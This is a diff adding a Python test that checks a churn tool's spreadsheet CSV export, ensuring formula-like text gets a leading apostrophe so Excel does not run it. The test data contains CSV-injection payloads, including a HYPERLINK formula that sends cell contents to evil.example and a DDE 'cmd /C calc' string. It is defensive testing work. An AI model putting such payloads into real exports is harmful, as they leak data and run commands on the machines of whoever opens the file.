@@ -151,6 +151,29 @@ def test_xlsx_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
     assert io.read_table(tmp_path / "list.xlsx")["customer_id"].tolist() == frame["customer_id"].tolist()
 
 
+def test_spreadsheet_csv_text_cannot_become_a_formula(tmp_path: Path) -> None:
+    # A retention list CSV wrote an id "=HYPERLINK(...)" or "@SUM(...)" as it was: Excel opening the
+    # file ran it as a formula (OWASP "CSV injection"). Text starting with = + - @ tab or CR now gets a
+    # leading apostrophe; negative numbers, as numbers or as text ("-42", "-1.234,50"), and a lone "-"
+    # stay as they are; churnml reads its own lists back (evaluate, report --list, --exclude) unchanged.
+    import csv
+
+    dangerous = ['=HYPERLINK("http://evil.example/?"&A3,"Click")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3",
+                 "@SUM(1,1)", "\t=1+1", "'=1+1"]
+    harmless = ["-42", "-1.234,50", "-", "C1", "Zoë 002475"]
+    frame = pd.DataFrame({"customer_id": dangerous + harmless,
+                          "reasons": ["=2*3; region: x"] + [""] * (len(dangerous) + len(harmless) - 1),
+                          "expected_benefit": [-3.5] + [1.0] * (len(dangerous) + len(harmless) - 1)})
+    path = io.write_table(frame, tmp_path / "list.csv", spreadsheet=True)
+    with open(path, encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))[1:]
+    assert [row[0] for row in rows] == ["'" + text for text in dangerous] + harmless
+    assert rows[0][1:] == ["'=2*3; region: x", "-3.5"]
+    assert io.read_table(path)["customer_id"].tolist() == frame["customer_id"].tolist()
+    assert io.read_table(path)["reasons"].iloc[0] == "=2*3; region: x"
+    assert io.read_ids(path) == {text.strip() for text in frame["customer_id"]}
+
+
 def test_an_id_list_that_is_a_folder_says_so(tmp_path: Path) -> None:
     # "File optout does not exist" for a folder that exists sent the user looking for a typo.
     (tmp_path / "optout").mkdir()
